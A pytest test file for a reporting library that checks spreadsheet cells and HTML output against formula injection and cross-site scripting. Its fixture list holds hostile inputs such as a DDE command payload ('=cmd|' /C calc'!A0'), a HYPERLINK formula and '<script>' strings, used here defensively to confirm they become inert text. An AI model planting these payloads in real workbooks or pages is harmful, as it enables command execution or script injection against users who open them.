"""Text from data never becomes a formula in the workbook nor markup in the HTML."""

from __future__ import annotations

import zipfile
from pathlib import Path

import nbformat
import openpyxl
import pytest

from asclib import report

NASTY = ['=HYPERLINK("http://x"&A1,"Click")', "=2*3", "+1+1", "-2+3", "@SUM(1)",
         "\tTabbed", "\rReturned", "<script>alert(1)</script>", "Seaview $^$ Opportunities"]


def _record() -> report.NotebookRecord:
    rows = [[name, f"{name} service", f"{name} home", 10 + i] for i, name in enumerate(NASTY)]
    return report.NotebookRecord(
        context={"title": "Day services", "area_code": "E08000014", "area_name": "Sefton",
                 "period": "2020/21", "source": "=1+1 export", "data_date": "2021-03-31",
                 "illustrative": True},
        tables=[{"name": "by_provider", "title": "=cmd|' /C calc'!A0", "note": "@note",
                 "columns": ["provider", "service", "home_name", "clients"], "data": rows,
                 "illustrative": True, "sources": ["day_service_placements"]}])


def test_formula_like_names_are_text_cells(tmp_path: Path) -> None:
    path = report.write_workbook(_record(), tmp_path / "w.xlsx")
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(member).decode()
                assert "<f " not in archive.read(member).decode()
    wb = openpyxl.load_workbook(path)
    ws = wb["by_provider"]
    found = {}
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                found[cell.value] = cell
    for name in NASTY[:5]:
        for text in (name, f"{name} service", f"{name} home"):
            assert text in found, text
            assert found[text].quotePrefix is True
    assert ws["A1"].value == "=cmd|' /C calc'!A0" and ws["A1"].data_type == "s"
    about = wb["About"]
    assert all(c.data_type != "f" for row in about.iter_rows() for c in row)


def test_html_escapes_names(tmp_path: Path) -> None:
    record = _record()
    cell = nbformat.v4.new_code_cell("x", outputs=[nbformat.v4.new_output(
        "display_data", data={report.TABLE_MIME: record.tables[0], "text/plain": "t"}),
        nbformat.v4.new_output("display_data", data={
            "text/markdown": "Provider <script>alert(2)</script> has **most** clients",
            "text/plain": "p"})])
    nb = nbformat.v4.new_notebook(cells=[cell])
    page = report.write_html(nb, record, tmp_path / "r.html").read_text()
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in page
    assert "<strong>most</strong>" in page  # Markdown still renders
    assert "=HYPERLINK(&quot;http://x&quot;&amp;A1,&quot;Click&quot;)" in page


@pytest.mark.parametrize("value", ["=2*3", "+1", "-1", "@x", "\tx", "\rx"])
def test_put_writes_text(value: str, tmp_path: Path) -> None:
    from asclib.reporting.excel import put

    wb = openpyxl.Workbook()
    cell = put(wb.active, 1, 1, value)
    assert cell.data_type == "s" and cell.quotePrefix is True
    number = put(wb.active, 2, 1, -5)
    assert number.data_type == "n" and number.value == -5
